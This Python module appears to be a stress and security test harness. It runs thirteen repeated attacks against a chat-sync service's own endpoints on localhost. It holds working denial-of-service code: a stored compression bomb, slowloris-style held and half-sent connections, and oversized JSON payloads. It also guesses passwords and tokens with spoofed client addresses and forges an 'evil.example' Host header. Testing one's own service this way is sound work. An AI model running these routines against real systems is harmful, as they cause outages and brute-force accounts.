"""Attacks, each repeated on several connections until its time is over."""

from __future__ import annotations

import itertools
import json
import socket
import zlib
from collections.abc import Callable, Mapping
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from functools import cache
from hashlib import sha256
from threading import Event, Thread
from uuid import uuid4

from .target import DEVICE, Account, Target, request

MEGABYTE = 1 << 20
_numbers = itertools.count(1)


@dataclass(frozen=True)
class Attack:
    """One attack; ``run`` is called again and again until ``ended`` is set."""

    name: str
    run: Callable[[Target, Account, Event], None]
    connections: int = 5

    def begin(self, target: Target, account: Account, ended: Event) -> list[Thread]:
        """Start the attack on all its connections."""

        def repeat() -> None:
            while not ended.is_set():
                with suppress(OSError):
                    self.run(target, account, ended)

        threads = [Thread(target=repeat, daemon=True) for _ in range(self.connections)]
        for thread in threads:
            thread.start()
        return threads


def _address() -> Mapping[str, str]:
    """Return an address of the attacker, of which there are 64."""
    return {"X-Forwarded-For": f"10.66.0.{next(_numbers) % 64}"}


@cache
def bomb() -> bytes:
    """Return 900 megabytes of JSON, compressed to one."""
    packer = zlib.compressobj(9)
    blank = b" " * MEGABYTE
    pieces = [packer.compress(b"["), *(packer.compress(blank) for _ in range(900)), packer.compress(b"]")]
    return b"".join([*pieces, packer.flush()])


def stored_bomb(target: Target, account: Account, ended: Event) -> None:
    """Store a response that inflates a thousandfold, and repeat the push that it responds to."""
    replica = uuid4().hex
    body = json.dumps({"conversations": [], "sync": {"replica": replica, "push_seq": 1, "ops": []}}).encode()
    headers = {**account.headers, **DEVICE}
    connection = target.connect()
    request(connection, "POST", "/api/chat/sync", body, headers)
    values = {
        "p_replica": replica,
        "p_push_seq": 1,
        "p_hash": sha256(body).hexdigest(),
        "p_answer": "\\x" + bomb().hex(),
    }
    request(connection, "POST", "/rest/v1/rpc/sync_answered", values, account.headers)
    request(connection, "POST", "/api/chat/sync", body, headers)


def _conversations(number: int, messages: int = 0) -> list[dict[str, object]]:
    stored = [{"id": f"m{n}", "role": "user", "content": "x"} for n in range(messages)]
    return [{"id": f"c{n}", "title": "x", "messages": stored} for n in range(number)]


def large_batch(target: Target, account: Account, ended: Event) -> None:
    """Store a thousand conversations in one call."""
    body = {"user_uuid": account.id, "conversations_data": _conversations(1000)}
    request(target.connect(), "POST", "/rest/v1/rpc/sync_user_conversations", body, account.headers)


def abandoned_push(target: Target, account: Account, ended: Event) -> None:
    """Start a push of many conversations and disconnect."""
    body = {"conversations": _conversations(4000)}
    with suppress(OSError):
        request(target.connect(0.3), "POST", "/api/chat/sync", body, account.headers)


LISTS = b"[" + b",".join([b"[]"] * 680_000) + b"]"


def strangers_json(target: Target, account: Account, ended: Event) -> None:
    """Send two megabytes of small JSON values without a sign-in."""
    request(target.connect(), "POST", "/auth/v1/token?grant_type=password", LISTS, _address())


def many_values(target: Target, account: Account, ended: Event) -> None:
    """Send two megabytes of small JSON values after signing in."""
    body = b'{"conversations": [], "more": ' + LISTS + b"}"
    request(target.connect(), "POST", "/api/chat/sync", body, account.headers)


def guesses(target: Target, account: Account, ended: Event) -> None:
    """Guess tokens and codes of every kind."""
    connection = target.connect()
    for grant in ("refresh_token", "urn:ietf:params:oauth:grant-type:device_code", "nonsense"):
        body = {"refresh_token": uuid4().hex, "device_code": uuid4().hex}
        request(connection, "POST", f"/auth/v1/token?grant_type={grant}", body, _address())
    request(connection, "GET", "/device?user_code=BCDF-GHJK", None, _address())


def passwords(target: Target, account: Account, ended: Event) -> None:
    """Guess passwords of accounts that do not exist."""
    body = {"email": f"{uuid4().hex}@example.org", "password": "a guess of mine"}
    request(target.connect(), "POST", "/auth/v1/token?grant_type=password", body, _address())


def _head(path: str, length: int, headers: Mapping[str, str]) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json", f"Content-Length: {length}"]
    return "\r\n".join([*lines, *(f"{name}: {value}" for name, value in headers.items()), "", ""]).encode()


def _hold(target: Target, ended: Event, count: int, sent: bytes) -> None:
    with ExitStack() as stack:
        for _ in range(count):
            connection = stack.enter_context(socket.create_connection((target.host, target.port), 20))
            with suppress(OSError):
                connection.sendall(sent)
        ended.wait()


def strangers_bodies(target: Target, account: Account, ended: Event) -> None:
    """Send forty large bodies except their last byte, without a sign-in."""
    _hold(target, ended, 40, _head("/auth/v1/token", 10 * MEGABYTE, {}) + b" " * (10 * MEGABYTE - 1))


def half_sent_bodies(target: Target, account: Account, ended: Event) -> None:
    """Send forty large bodies except their last byte, after signing in."""
    head = _head("/api/chat/sync", 10 * MEGABYTE, account.headers)
    _hold(target, ended, 40, head + b" " * (10 * MEGABYTE - 1))


def silent_connections(target: Target, account: Account, ended: Event) -> None:
    """Hold connections that send no complete request."""
    _hold(target, ended, 900, b"GET / HTTP/1.1\r\n")


def unread_answers(target: Target, account: Account, ended: Event) -> None:
    """Request large responses and read none of them."""
    lines = ["GET /openapi.json HTTP/1.1", "Host: localhost", "", ""]
    _hold(target, ended, 100, "\r\n".join(lines).encode() * 100)


def large_pushes(target: Target, account: Account, ended: Event) -> None:
    """Push the largest number of ops, and pull them in the largest pages."""
    run = next(_numbers)
    value = {"role": "user", "content": "text " * 20, "timestamp": "2026-03-01T12:00:00.000Z"}
    ops: list[dict[str, object]] = [{"kind": "c", "id": f"c{run}", "op": "put", "value": {"title": "x"}}]
    ops += [{"kind": "m", "id": f"m{run}_{n}", "session": f"c{run}", "op": "put", "value": value} for n in range(4999)]
    body = {"conversations": [], "sync": {"replica": uuid4().hex, "push_seq": 1, "ops": ops}}
    headers = {**account.headers, **DEVICE}
    connection = target.connect()
    request(connection, "POST", "/api/chat/sync", body, headers)
    request(connection, "GET", "/api/chat/sync?since=0&max_bytes=4000000", None, headers)


def foreign_name(target: Target, account: Account, ended: Event) -> None:
    """Send what a page of another name sends when its name resolves to this computer."""
    body = {"email": f"{uuid4().hex}@example.org", "password": "correct horse battery"}
    headers = {"Host": "evil.example", **_address()}
    request(target.connect(), "POST", "/auth/v1/signup", body, headers)


ATTACKS = (
    Attack("stored bomb", stored_bomb, 2),
    Attack("large batches", large_batch, 10),
    Attack("abandoned pushes", abandoned_push, 5),
    Attack("large pushes", large_pushes, 3),
    Attack("strangers' JSON", strangers_json, 5),
    Attack("many values", many_values, 5),
    Attack("guessed tokens", guesses, 5),
    Attack("guessed passwords", passwords, 5),
    Attack("strangers' bodies", strangers_bodies, 1),
    Attack("half-sent bodies", half_sent_bodies, 1),
    Attack("silent connections", silent_connections, 1),
    Attack("unread answers", unread_answers, 1),
    Attack("foreign name", foreign_name, 5),
)
